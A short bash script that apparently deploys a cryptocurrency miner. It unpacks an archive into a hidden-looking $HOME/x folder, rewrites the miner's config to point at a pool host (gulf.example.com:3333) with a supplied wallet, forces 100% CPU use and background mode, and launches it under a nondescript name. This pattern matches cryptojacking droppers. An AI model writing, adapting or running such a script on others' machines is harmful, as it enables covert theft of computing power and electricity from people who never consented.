#!/bin/bash
WALLET=$1
PORT=3333
if ! tar xf /tmp/x.tar.gz -C $HOME/x; then
  echo "ERROR: can not unpack"
  exit 1
fi
sed -i 's/"url": *"[^"]*",/"url": "gulf.example.com:'$PORT'",/' $HOME/x/config.json
sed -i 's/"user": *"[^"]*",/"user": "'$WALLET'",/' $HOME/x/config.json
sed -i 's/"pass": *"[^"]*",/"pass": "'$PASS'",/' $HOME/x/config.json
sed -i 's/"max-cpu-usage": *[^,]*,/"max-cpu-usage": 100,/' $HOME/x/config.json
sed -i 's#"log-file": *null,#"log-file": "'$HOME/x/x.log'",#' $HOME/x/config.json
sed -i 's/"donate-level": *[^,]*,/"donate-level": 1,/' $HOME/x/config.json
sed -i 's/"background": *false,/"background": true,/' $HOME/x/config.json
$HOME/x/x --config=$HOME/x/config.json
